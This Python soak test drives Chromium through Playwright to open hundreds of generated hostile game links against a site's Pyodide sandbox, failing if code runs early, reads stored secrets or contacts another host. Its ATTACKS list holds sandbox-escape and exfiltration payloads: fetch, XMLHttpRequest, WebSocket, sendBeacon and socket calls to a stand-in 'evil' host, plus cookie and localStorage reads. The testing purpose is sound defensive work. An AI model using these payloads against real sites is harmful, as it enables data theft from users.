"""Open hostile links in the site's page for games, in Chromium: python -m tests.soak.opened_links.

Each link is opened, looked at, and run if the page offers that. Counted as failures: a program that
runs before the click, a script in the page, a read of what the site stores, a request to any other
host, and a page that no longer answers. It isn't among the campaigns of ``make soak``'s table, for
it needs a browser and the site.
"""

from __future__ import annotations

import argparse
import base64
import json
import threading
import zlib
from random import Random

from playwright.sync_api import Page, sync_playwright
from playwright.sync_api import TimeoutError as NoAnswer

from tests.browser.make_page import elsewhere
from tests.soak.injection import CORPUS
from tests.soak.mutations import mutated_text
from tools import site
from tools.chromium import SHELLS, find

BODY = '''
import js, json
from pyodide.ffi import to_js
import piecepack_nb as pp
from piecepack_nb.design import Board
EVIL = {evil!r}
def attack():
    {attack}
    return "OUT"
def attempt():
    try:
        return attack()
    except BaseException:
        return {title!r}
js.postMessage(js.JSON.parse(json.dumps({{"kind": "failed", "text": "RAN {number}"}})))
@pp.register
class Game{number}(Board):
    """{doc}"""
    title = attempt()
    author = {title!r}
    rulebook = "HO-1 Hostile. " + {title!r}
    places = Board.squares(3, 3)
    seats = ("suns", "moons")
    def move(self, table, place):
        table[place] = table.seat
    def prompt(self, table, picks):
        return {title!r}
'''
ATTACKS = (
    "js.WorkerGlobalScope.prototype.fetch(EVIL).result()", "js.localStorage.getItem('secret')",
    "js.XMLHttpRequest.new().open('GET', EVIL, False); raise ValueError",
    "x = js.XMLHttpRequest.new(); x.open('GET', EVIL, False); x.send()",
    "js.importScripts(EVIL)", "js.eval('1')", "js.Function.new('return 1')()", "js.parent.document",
    "js.document.cookie", "js.window.open(EVIL)",
    "import urllib.request as u; u.urlopen(EVIL)",
    "import socket; socket.create_connection(EVIL[7:-5].split(':'), 1).send(b'x')",
    "js.location.assign(EVIL)",
    "js.location.href = EVIL; raise ValueError", "js.top.document", "js.caches.keys",
    "js.BroadcastChannel.new('x').postMessage('x'); raise ValueError",
    "js.self.close(); raise ValueError", "from pyodide.http import open_url; open_url(EVIL)",
    "js.WebSocket.new(EVIL.replace('http', 'ws')); raise ValueError", "import micropip",
    "js.Worker.new(EVIL); raise ValueError", "js.navigator.sendBeacon(EVIL)", "raise SystemExit",
    "js.postMessage(js.JSON.parse('{\"kind\": \"open\", \"state\": null}')); raise ValueError",
    "js.postMessage(js.JSON.parse('{\"kind\": \"height\", \"value\": 1e9}')); raise OSError",
    "[js.postMessage(1) for _ in range(2000)]; raise ValueError",
    "__import__('os')._exit(1)", "del js.self.postMessage; raise ValueError",
)  # fmt: skip
STATE = """() => ({
  said: document.getElementById("status").textContent,
  shown: !document.getElementById("stranger").hidden,
  hacked: globalThis.hacked ?? null, secret: localStorage.getItem("secret"),
})"""


def packed(kind: str, content: object, version: int = 1) -> str:
    """Return the fragment of a link with any content."""
    packer = zlib.compressobj(9, wbits=-15)
    raw = packer.compress(json.dumps(content).encode()) + packer.flush()
    return f"#{kind}{version}.{base64.urlsafe_b64encode(raw).decode().rstrip('=')}"


def hostile(number: int, evil: str, random: Random) -> str:
    """Return a hostile link; one of six is no program at all."""
    values = {"evil": evil, "number": number, "attack": random.choice(ATTACKS)}
    title = random.choice(CORPUS)
    doc = "".join(each for each in title if each not in '"\\\x00')
    program = BODY.format(**values, title=title, doc=doc)
    kind = random.randrange(12)
    if kind == 0:
        return mutated_text(packed("game", {"program": program}), random)
    if kind == 1:
        return packed(random.choice(("match", "maze", "game")), "x" * 10 ** random.randrange(8))
    if kind == 2:
        return packed("game", {"program": program}, version=random.choice((0, 2, 9999)))
    if kind == 3:
        return packed("match", {"program": program, "record": {"game": title}})
    if kind == 4:
        return packed("game", {"program": mutated_text(program, random)})
    if kind == 5:
        return packed("maze", {"maze": title * random.randrange(1, 50)})
    return packed("game", {"program": program})


def try_link(page: Page, link: str, number: int) -> str:
    """Open and run a link; return how it ended: refused, run, failed in Python; or raise."""
    page.evaluate("(link) => { location.hash = ''; location.hash = link }", link)
    page.wait_for_timeout(60)
    before = page.evaluate(STATE)
    if f"RAN {number}" in before["said"]:
        raise AssertionError("it ran before the click")
    if not before["shown"]:
        return "refused"
    page.click("#stranger-run", timeout=5000)
    page.wait_for_function(
        "(was) => ![was, ''].includes(document.getElementById('status').textContent)",
        arg=before["said"],
        timeout=30_000,
    )
    page.wait_for_timeout(30)
    after = page.evaluate(STATE)
    if after["hacked"] is not None or after["secret"] != "x" or "OUT" in after["said"]:
        raise AssertionError(f"it got out: {after}")
    ran = f"RAN {number}" in after["said"] or "is on the table" in after["said"]
    return "run" if ran else "failed in Python"


def main() -> int:
    """Try many links, and print what became of them; return 1 if anything got out."""
    parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
    parser.add_argument("--size", type=int, default=1000)
    parser.add_argument("--seed", type=int, default=0)
    given = parser.parse_args()
    counts: dict[str, int] = {}
    random, wrong = Random(given.seed), list[str]()
    with site.server() as serving, elsewhere() as (evil, asked), sync_playwright() as playwright:
        threading.Thread(target=serving.serve_forever, daemon=True).start()
        browser = playwright.chromium.launch(executable_path=find(*SHELLS), args=["--no-sandbox"])
        page = browser.new_page()
        page.goto(f"http://127.0.0.1:{serving.server_address[1]}/make/#x")
        page.evaluate("localStorage.setItem('secret', 'x')")
        for number in range(given.size):
            link = hostile(number, evil, random)
            try:
                ended = try_link(page, link, number)
            except (AssertionError, NoAnswer) as error:
                ended = "wrong"
                wrong.append(f"link {number}: {str(error)[:200]} {link[:80]}")
                page.click("#stop")
            counts[ended] = counts.get(ended, 0) + 1
            if number % 50 == 49:
                print(f"{number + 1} links: {counts}", flush=True)
            if asked:
                wrong.append(f"link {number}: another host was asked {asked.pop()}")
        browser.close()
        serving.shutdown()
    print(f"{given.size} links: {counts}", *wrong[:10], sep="\n")
    return int(bool(wrong))


if __name__ == "__main__":
    raise SystemExit(main())
